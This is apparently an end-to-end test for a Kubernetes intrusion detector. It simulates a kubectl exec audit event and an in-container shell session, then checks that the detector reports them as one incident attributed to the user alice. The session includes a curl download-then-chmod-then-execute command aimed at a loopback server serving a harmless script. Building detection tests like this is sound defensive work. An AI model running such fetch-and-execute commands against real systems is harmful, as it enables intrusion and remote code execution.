/**
 * End to end (issue 6, "Done when" 1): the analyzer and a node agent run as
 * real processes; the apiserver's audit event of `kubectl exec` by alice into
 * pod P arrives at the webhook (no apiserver runs here: the event is written
 * in the shape a v1.31 apiserver sends for an exec, with this run's audit
 * ID); then, in a container-like environment mapped to P, a shell started
 * the way `kubectl exec -it` starts it (from a parent named containerd-shim,
 * with KUBERNETES_EXEC_AUDIT_ID in its environment as KEP-6035 has the
 * kubelet pass it) downloads a program from a loopback HTTP server into the
 * container's writable layer and runs it. The agent forwards its alerts to
 * the analyzer; `tiercel incidents list` must then show exactly one incident
 * for P, attributed to alice, holding the audit alert and the syscall alerts,
 * each with the key that linked it and its confidence.
 *
 * Needs root, kernel BTF, the sensor and dist/ (npm run build); skips with
 * the reason otherwise (CI turns a skip into a failure).
 */
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { checkPrerequisites, tryLoadNative } from '../../src/syscall/native/index.js';
import { BIN, ROOT, runCli } from '../helpers/cli.js';
import { type Container, cgroupMounts, ctrExec, newIdentity, sleep, startContainer, stopContainer } from '../helpers/container-env.js';
import { type ServeProcess, startServe } from '../server/helpers.js';

let skip: string | false = false;
{
  const native = tryLoadNative();
  if (!native.addon) skip = `the eBPF sensor addon is not built (run \`node scripts/build-native.mjs\`): ${native.error.message.split('\n')[0]}`;
  else if (!checkPrerequisites().btf) skip = 'no kernel BTF at /sys/kernel/btf/vmlinux';
  else if (process.getuid?.() !== 0) skip = `needs root (BPF, namespaces, cgroups); running as uid ${process.getuid?.()}`;
  else if (!cgroupMounts().v2) skip = 'no cgroup v2 hierarchy mounted';
  else if (!existsSync(join(ROOT, 'dist'))) skip = 'dist/ is not built (run `npm run build`)';
  else if (!existsSync('/usr/bin/curl')) skip = 'curl is not installed (Debian package curl, installed by .ci/run)';
}

interface ApiIncident {
  id: string;
  title: string;
  severity: string;
  status: string;
  actor?: { kind: string; name: string; confidence: string };
  target: { namespace?: string; pod?: string };
  rules: string[];
  alert_count: number;
}

/** The agent as a child process, started once its health endpoint answers. */
async function startAgent(args: readonly string[], env: NodeJS.ProcessEnv): Promise<{ child: ChildProcess; stderr: () => string }> {
  const child = spawn(process.execPath, [BIN, 'agent', '-o', 'json', '--listen', '127.0.0.1:0', '--log-format', 'json', ...args], {
    cwd: ROOT, stdio: ['ignore', 'ignore', 'pipe'], env: { ...process.env, TZ: 'UTC', ...env },
  });
  let err = '';
  child.stderr!.setEncoding('utf8').on('data', (d: string) => (err += d));
  const deadline = Date.now() + 60_000;
  for (;;) {
    const m = /"msg":"agent running[^\n]*"url":"([^"]+)"|"url":"([^"]+)"[^\n]*"msg":"agent running/.exec(err);
    if (m) {
      const url = m[1] ?? m[2]!;
      try {
        const res = await fetch(`${url}/readyz`);
        await res.arrayBuffer();
        if (res.status === 200) return { child, stderr: () => err };
      } catch {
        // not listening yet
      }
    }
    if (child.exitCode !== null || child.signalCode !== null) throw new Error(`the agent exited before running:\n${err}`);
    if (Date.now() > deadline) throw new Error(`the agent did not start within 60 s:\n${err}`);
    await sleep(50);
  }
}

async function stopChild(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null) return;
  const exited = new Promise((r) => child.on('exit', r));
  child.kill('SIGTERM');
  const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
  await exited;
  clearTimeout(timer);
}

/** The exec request's audit event, as the apiserver's webhook backend sends it (stage ResponseStarted: the stream is open). */
function execAuditEvent(auditId: string, namespace: string, pod: string, container: string): Record<string, unknown> {
  const now = new Date();
  const query = ['command=%2Fbin%2Fsh', `container=${container}`, 'stdin=true', 'stdout=true', 'stderr=true', 'tty=true'].join('&');
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Request',
    auditID: auditId,
    stage: 'ResponseStarted',
    requestURI: `/api/v1/namespaces/${namespace}/pods/${pod}/exec?${query}`,
    verb: 'create',
    user: { username: 'alice', groups: ['developers', 'system:authenticated'] },
    sourceIPs: ['127.0.0.1'],
    userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46',
    objectRef: { resource: 'pods', namespace, name: pod, apiVersion: 'v1', subresource: 'exec' },
    responseStatus: { metadata: {}, code: 101 },
    requestReceivedTimestamp: new Date(now.getTime() - 3).toISOString().replace('Z', '000Z'),
    stageTimestamp: now.toISOString().replace('Z', '000Z'),
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed by RoleBinding "dev-exec/shop" of Role "exec" to Group "developers"' },
  };
}

describe('an exec session told as one incident: audit + syscall, end to end', { skip }, () => {
  const runId = randomBytes(3).toString('hex');
  const namespace = `tiercel-e2e-${runId}`;
  const podName = 'web-1';
  const containerName = 'app';
  const who = newIdentity({ name: containerName, image: 'registry.example/shop/web:1.4', pod: podName, namespace });
  const auditId = randomUUID();
  const agentToken = randomBytes(24).toString('base64url');
  let tmp = '';
  let serve: ServeProcess | undefined;
  let agent: { child: ChildProcess; stderr: () => string } | undefined;
  let container: Container | undefined;
  let files: Server | undefined;
  let apiToken = '';
  let apiUrl = '';

  before(async () => {
    tmp = mkdtempSync(join(tmpdir(), 'tiercel-e2e-'));
    const dataDir = join(tmp, 'data');
    // The analyzer: default k8s_audit rules, a fresh SQLite store, a token for the agent.
    const config = join(tmp, 'tiercel.yaml');
    writeFileSync(config, [
      `data_dir: ${JSON.stringify(dataDir)}`,
      'api:',
      '  tokens:',
      '    - { name: e2e-agent, token_env: TIERCEL_E2E_AGENT_TOKEN, scopes: [ingest] }',
      '    - { name: e2e-reader, token_env: TIERCEL_E2E_READ_TOKEN, scopes: [read, write] }',
      '',
    ].join('\n'));
    apiToken = randomBytes(24).toString('base64url');
    serve = await startServe(['--config', config], { env: { TIERCEL_E2E_AGENT_TOKEN: agentToken, TIERCEL_E2E_READ_TOKEN: apiToken } });
    apiUrl = `${serve.url}/api/v1`;

    // Pod P's container as the node's runtime reports it (the agent's metadata file).
    const metadata = join(tmp, 'metadata.json');
    writeFileSync(metadata, JSON.stringify({
      containers: [{
        id: who.fullId, name: containerName, image: who.meta!.image, type: 'containerd',
        pod: { name: podName, namespace, uid: who.podUid },
      }],
    }));
    // The pod is running before the agent starts (its pid 1 is in the agent's /proc scan, as on a
    // node where pods run before the DaemonSet's pod): the session is the only activity in it.
    container = await startContainer('e2e', who, {
      cgroupRoot: cgroupMounts().v2!,
      rel: (uid, id) => `kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${uid.replace(/-/g, '_')}.slice/cri-containerd-${id}.scope`,
      runtime: 'containerd',
      tmp,
      overlay: true,
    });

    agent = await startAgent([
      '--metadata', metadata,
      '--option', `agent.analyzer.url=${serve.url}`,
      '--option', 'agent.analyzer.token_env=TIERCEL_E2E_AGENT_TOKEN',
    ], { TIERCEL_E2E_AGENT_TOKEN: agentToken });

    // What the intruder downloads: a small program, served on loopback.
    files = createServer((req, res) => {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      res.end('#!/bin/sh\necho "tool ran"\n');
    });
    await new Promise<void>((r) => files!.listen(0, '127.0.0.1', r));
  });

  after(async () => {
    if (container) await stopContainer(container);
    if (agent) await stopChild(agent.child);
    if (serve) await serve.stop();
    await new Promise((r) => (files ? files.close(r) : r(undefined)));
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it('exec by alice → shell → download → execute is one incident, attributed to alice', async () => {
    // 1. The apiserver reports the exec request.
    const res = await fetch(serve!.webhook, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [execAuditEvent(auditId, namespace, podName, containerName)] }),
    });
    assert.equal(res.status, 200, await res.text());

    // 2. The session in the container: shell with a terminal, download, execute.
    const port = (files!.address() as AddressInfo).port;
    const tool = join(container!.overlay!.merged, `tool-${runId}`);
    const script = `curl -sS -o ${tool} http://127.0.0.1:${port}/tool && chmod +x ${tool} && ${tool}`;
    // The variable is set in the container only, as the kubelet sets it on the exec'd process
    // (env execs the shell in place: the session root stays the runtime shim's child).
    const r = await ctrExec(container!, ['/usr/bin/env', `KUBERNETES_EXEC_AUDIT_ID=${auditId}`, '/bin/sh', '-c', script], { tty: true });
    assert.equal(r.code, 0, `the session failed: ${r.stderr}${r.stdout}`);
    assert.match(r.stdout, /tool ran/);

    // 3. The analyzer joins everything as it arrives; wait for the chain to be complete.
    // The downloaded program runs from the overlay's upper layer below the temporary directory:
    // with Falco's first-match, whichever of the two rules comes first in the file reports it.
    const executionRules = ['Drop and Execute in Container', 'Executable Run From Temporary Directory'];
    const expectedRules = ['Attach/Exec Into Pod', 'Terminal Shell in Container', 'File Transfer Tool Launched in Container'];
    const complete = (rules: Set<string> | readonly string[]): boolean => {
      const has = (r: string): boolean => (rules instanceof Set ? rules.has(r) : rules.includes(r));
      return expectedRules.every(has) && executionRules.some(has);
    };
    const auth = { authorization: `Bearer ${apiToken}` };
    let incidents: ApiIncident[] = [];
    const deadline = Date.now() + 30_000;
    for (;;) {
      const list = await fetch(`${apiUrl}/incidents?namespace=${namespace}&limit=50`, { headers: auth });
      assert.equal(list.status, 200, await list.clone().text());
      incidents = ((await list.json()) as { items: ApiIncident[] }).items;
      const rules = new Set(incidents.flatMap((i) => i.rules));
      if (complete(rules) || Date.now() > deadline) break;
      await sleep(250);
    }

    // 4. What the on-call engineer sees.
    const cli = await runCli(['incidents', 'list', '--url', serve!.url, '--token', apiToken, '--namespace', namespace, '-o', 'json']);
    assert.equal(cli.code, 0, cli.stderr);
    const listed = JSON.parse(cli.stdout) as { items: ApiIncident[] } | ApiIncident[];
    const items = Array.isArray(listed) ? listed : listed.items;
    assert.equal(items.length, 1, `exactly one incident for ${namespace}/${podName}, got:\n${items.map((i) => `  ${i.title} [${i.rules.join(', ')}]`).join('\n')}\nagent log:\n${agent!.stderr().slice(-2000)}`);
    const incident = items[0]!;
    for (const rule of expectedRules) assert.ok(incident.rules.includes(rule), `the incident holds "${rule}": ${incident.rules.join(', ')}`);
    assert.ok(executionRules.some((r) => incident.rules.includes(r)), `the incident holds the execution of the download: ${incident.rules.join(', ')}`);
    assert.equal(incident.actor?.name, 'alice');
    assert.equal(incident.actor?.confidence, 'exact', 'the audit ID in the shell\'s environment names the exec request');
    assert.equal(incident.target.namespace, namespace);
    assert.equal(incident.target.pod, podName);

    const shown = await runCli(['incidents', 'show', incident.id, '--url', serve!.url, '--token', apiToken, '-o', 'json']);
    assert.equal(shown.code, 0, shown.stderr);
    const detail = JSON.parse(shown.stdout) as {
      incident: ApiIncident;
      timeline: { first: { id: string; rule: string; source: string }; count: number; link?: { key: string; confidence: string } }[];
      links: { alert_id: string; key: string; confidence: string }[];
    };
    const sources = new Set(detail.timeline.map((e) => e.first.source));
    assert.ok(sources.has('k8s_audit') && sources.has('syscall'), `audit and syscall evidence in one timeline: ${[...sources].join(', ')}`);
    const linkOf = new Map(detail.links.map((l) => [l.alert_id, l]));
    for (const entry of detail.timeline) {
      const link = linkOf.get(entry.first.id);
      assert.ok(link, `"${entry.first.rule}" has a link`);
      assert.deepEqual(entry.link, link, 'the timeline shows the same link');
      assert.ok(['exact', 'probable', 'ambiguous'].includes(link.confidence), `"${entry.first.rule}": confidence ${link.confidence}`);
      // Everything in this session carries the audit ID or the exec session: nothing is a guess.
      if (entry.first.source === 'syscall' && link.key !== 'first') {
        assert.ok(['audit_id', 'exec_session', 'storm'].includes(link.key), `"${entry.first.rule}" linked by ${link.key}`);
        assert.equal(link.confidence, 'exact', `"${entry.first.rule}" linked by ${link.key}`);
      }
    }
    // The text form names the actor and every link's key and confidence.
    const text = await runCli(['incidents', 'show', incident.id, '--url', serve!.url, '--token', apiToken]);
    assert.equal(text.code, 0, text.stderr);
    assert.match(text.stdout, /alice/);
    assert.match(text.stdout, /audit_id/);
    assert.match(text.stdout, /exact/);
  });
});
